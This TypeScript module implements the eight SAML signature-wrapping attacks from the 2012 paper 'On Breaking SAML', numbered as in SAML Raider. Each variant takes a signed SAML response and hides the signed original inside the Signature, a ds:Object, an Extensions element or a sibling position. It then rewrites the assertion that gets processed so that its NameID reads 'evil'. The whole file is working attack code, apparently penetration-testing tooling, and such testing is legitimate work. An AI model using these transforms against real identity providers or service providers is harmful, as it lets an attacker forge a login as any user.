import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const signatureOf = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  readonly signature: Element;
}

const only = (parent: Element, name: string): Element => {
  const [element] = Array.from(parent.getElementsByTagNameNS('*', name));
  if (element === undefined) throw new Error(`no ${name}`);
  return element;
};

const partsOf = (xml: string): Parts => {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  return { document, response, assertion: only(response, 'Assertion'), signature: only(response, 'Signature') };
};

const unsigned = (element: Element): Element => {
  // of the same kind as what it copies
  const copy = element.cloneNode(true) as Element;
  for (const signature of Array.from(copy.getElementsByTagNameNS(signatureOf, 'Signature')))
    signature.parentNode?.removeChild(signature);
  return copy;
};

/** The same with another person and another id. */
const evil = (element: Element): Element => {
  element.setAttribute('ID', `${element.getAttribute('ID')}-evil`);
  only(element, 'NameID').textContent = 'evil';
  return element;
};

/**
 * The eight wrappings of “On Breaking SAML: Be Whoever You Want to Be” (Somorovsky et al., 2012), as SAML Raider numbers them. The
 * first two are of a signed response, the others of a signed assertion.
 */
const wrappings: readonly ((parts: Parts) => void)[] = [
  ({ response, signature }) => {
    const original = unsigned(response);
    evil(response);
    signature.appendChild(original);
  },
  ({ response, signature }) => {
    const original = unsigned(response);
    evil(response);
    signature.parentNode?.insertBefore(original, signature);
  },
  ({ response, assertion }) => {
    response.insertBefore(evil(unsigned(assertion)), assertion);
  },
  ({ response, assertion }) => {
    const wrapper = evil(unsigned(assertion));
    response.replaceChild(wrapper, assertion);
    wrapper.appendChild(assertion);
  },
  ({ response, assertion }) => {
    response.appendChild(unsigned(assertion));
    evil(assertion);
  },
  ({ assertion, signature }) => {
    const original = unsigned(assertion);
    evil(assertion);
    signature.appendChild(original);
  },
  ({ document, response, assertion }) => {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil(unsigned(assertion)));
    response.insertBefore(extensions, assertion);
  },
  ({ document, assertion, signature }) => {
    const object = document.createElementNS(signatureOf, 'ds:Object');
    object.appendChild(unsigned(assertion));
    evil(assertion);
    signature.appendChild(object);
  },
];

/** @param number from 1 to 8 */
export const wrapSignature = (xml: string, number: number): string => {
  const parts = partsOf(xml);
  wrappings[number - 1]?.(parts);
  return new XMLSerializer().serializeToString(parts.document);
};
